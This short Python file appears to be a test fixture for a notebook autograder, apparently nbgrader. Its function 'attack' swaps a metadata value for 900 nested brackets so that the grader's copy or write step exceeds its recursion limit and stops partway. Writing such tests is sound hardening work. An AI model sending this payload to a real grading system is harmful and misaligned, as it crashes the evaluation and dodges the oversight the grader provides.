"""Nests metadata as deep as the JSON parser just takes: more than what copies or writes the notebook does.

Would end the grader by its recursion limit after it has begun.

Plain nbgrader: is not graded.
"""

import json


def attack(notebook):
    notebook.metadata["x"] = "deep"
    return json.dumps(notebook).replace('"deep"', "[" * 900 + "]" * 900, 1)
